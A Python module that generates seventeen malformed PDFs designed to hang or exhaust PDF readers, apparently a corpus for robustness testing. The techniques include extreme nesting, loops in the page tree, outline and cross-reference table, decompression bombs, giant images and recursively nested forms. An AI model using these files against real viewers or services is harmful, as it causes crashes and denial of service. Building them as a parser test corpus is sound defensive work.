"""PDFs made to hang or exhaust their reader: small files, each a known kind of attack."""

import zlib
from collections.abc import Callable, Mapping

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pdf(objects: Mapping[int, bytes], *, trailer: bytes = b"") -> bytes:
    """A file of these objects, of which 1 is the catalogue, with a sound cross-reference table."""
    content = bytearray(HEADER)
    places: dict[int, int] = {}
    for number, body in objects.items():
        places[number] = len(content)
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(content)
    size = max(objects) + 1
    content += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        place, kind = (places[number], b"n") if number in places else (0, b"f")
        content += b"%010d 00000 %s \n" % (place, kind)
    content += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        trailer,
        start,
    )
    return bytes(content)


def stream(data: bytes, *, entries: bytes = b"", packed: bool = True) -> bytes:
    """A stream object of `data`."""
    if packed:
        data, entries = zlib.compress(data, 9), entries + b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def one_page(content: bytes, *, resources: bytes = b"", more: Mapping[int, bytes] | None = None,
             page: bytes = b"", catalogue: bytes = b"") -> bytes:  # fmt: skip
    """A document of one page: 3 is the page, 4 its content, 5 a font; `more` starts at 6."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] %s /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> %s >> >>" % (page, resources),
            4: content,
            5: FONT,
            **(more or {}),
        }
    )


def text(words: bytes) -> bytes:
    return b"BT /F1 12 Tf 72 700 Td (%s) Tj ET\n" % words


def deep_nesting() -> bytes:
    depth = 200_000
    return one_page(stream(text(b"deep")), more={6: b"[" * depth + b"]" * depth})


def deep_nesting_in_the_page() -> bytes:
    depth = 200_000
    return one_page(stream(text(b"deep")), page=b"/Annots " + b"[" * depth + b"]" * depth)


def page_tree_loop() -> bytes:
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 1000 >>",
        }
    )


def page_tree_of_a_million() -> bytes:
    """Four levels of a hundred references to the same node."""
    levels = {
        number: b"<< /Type /Pages /Parent %d 0 R /Count %d /Kids [%s] >>"
        % (max(number - 1, 1), 100 ** (5 - number + 1), b"%d 0 R " % (number + 1) * 100)
        for number in range(2, 6)
    }
    leaf = {6: b"<< /Type /Page /Parent 5 0 R /MediaBox [0 0 612 792] >>"}
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", **levels, **leaf})


def false_count() -> bytes:
    return one_page(stream(text(b"one page"))).replace(b"/Count 1 ", b"/Count 2000000000 ")


def deep_page_tree() -> bytes:
    depth = 20_000
    nodes = {
        number: b"<< /Type /Pages /Parent %d 0 R /Count 1 /Kids [%d 0 R] >>"
        % (number - 1, number + 1)
        for number in range(2, depth)
    }
    leaf = {depth: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] >>" % (depth - 1)}
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", **nodes, **leaf})


def packed_content() -> bytes:
    """One megabyte that unpacks to a gigabyte of operators."""
    packer = zlib.compressobj(9)
    block = b"q Q\n" * 262_144
    data = b"".join([*(packer.compress(block) for _ in range(1024)), packer.flush()])
    return one_page(stream(data, entries=b"/Filter /FlateDecode", packed=False))


def packed_twice() -> bytes:
    inner = zlib.compress(b" " * (1 << 28), 9)
    return one_page(
        stream(
            zlib.compress(inner, 9), entries=b"/Filter [/FlateDecode /FlateDecode]", packed=False
        )
    )


def endless_line() -> bytes:
    return one_page(stream(text(b"word " * 4_000_000)))


def giant_image() -> bytes:
    entries = (
        b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 "
        b"/BitsPerComponent 8 /ColorSpace /DeviceRGB"
    )
    return one_page(
        stream(b"q 600 0 0 780 6 6 cm /I Do Q"),
        resources=b"/XObject << /I 6 0 R >>",
        more={6: stream(b"\x7f" * (1 << 20), entries=entries)},
    )


def giant_page() -> bytes:
    return one_page(stream(b"0 0 m 900000000 900000000 l S")).replace(
        b"[0 0 612 792]", b"[0 0 999999999 999999999]"
    )


def form_loop() -> bytes:
    entries = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return one_page(
        stream(b"/X Do"),
        resources=b"/XObject << /X 6 0 R >>",
        more={6: stream(b"/X Do /X Do", entries=entries)},
    )


def form_laughs() -> bytes:
    """Forms that each draw the next one ten times, twelve levels deep."""
    forms = {}
    for number in range(6, 18):
        entries = (
            b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
            b"/Resources << /Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>" % (number + 1)
        )
        forms[number] = stream(b"/X Do " * 10, entries=entries)
    forms[18] = stream(text(b"ha"), entries=b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]")
    return one_page(stream(b"/X Do"), resources=b"/XObject << /X 6 0 R >>", more=forms)


def outline_loop() -> bytes:
    return one_page(
        stream(text(b"the outline goes round")),
        catalogue=b"/Outlines 6 0 R",
        more={
            6: b"<< /Type /Outlines /First 7 0 R /Last 8 0 R >>",
            7: b"<< /Title (A) /Parent 6 0 R /Next 8 0 R /First 6 0 R /Dest [3 0 R /Fit] >>",
            8: b"<< /Title (B) /Parent 6 0 R /Next 7 0 R /First 7 0 R /Dest [3 0 R /Fit] >>",
        },
    )


def table_loop() -> bytes:
    """A cross-reference table whose predecessor is itself."""
    whole = one_page(stream(text(b"round and round")))
    start = int(whole.rsplit(b"startxref\n", 1)[1].split()[0])
    return whole.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d" % start)


def length_loop() -> bytes:
    body = b"<< /Length 4 0 R >>\nstream\n%s\nendstream" % text(b"its own length")
    return one_page(body)


def packed_unicode_map() -> bytes:
    """A font whose way back to Unicode has 13 million entries."""
    entry = b"<00> <7f> <0041>\n"
    cmap = b"/CIDInit /ProcSet findresource begin begincmap\n%sendcmap" % (
        (b"100 beginbfrange\n" + entry * 100 + b"endbfrange\n") * 130_000
    )
    whole = one_page(stream(text(b"mapped")), more={6: stream(cmap)})
    return whole.replace(b"/BaseFont /Helvetica", b"/BaseFont /Helvetica /ToUnicode 6 0 R")


ATTACKS: dict[str, Callable[[], bytes]] = {
    make.__name__.replace("_", "-"): make
    for make in (
        deep_nesting,
        deep_nesting_in_the_page,
        page_tree_loop,
        page_tree_of_a_million,
        false_count,
        deep_page_tree,
        packed_content,
        packed_twice,
        endless_line,
        giant_image,
        giant_page,
        form_loop,
        form_laughs,
        outline_loop,
        table_loop,
        length_loop,
        packed_unicode_map,
    )
}
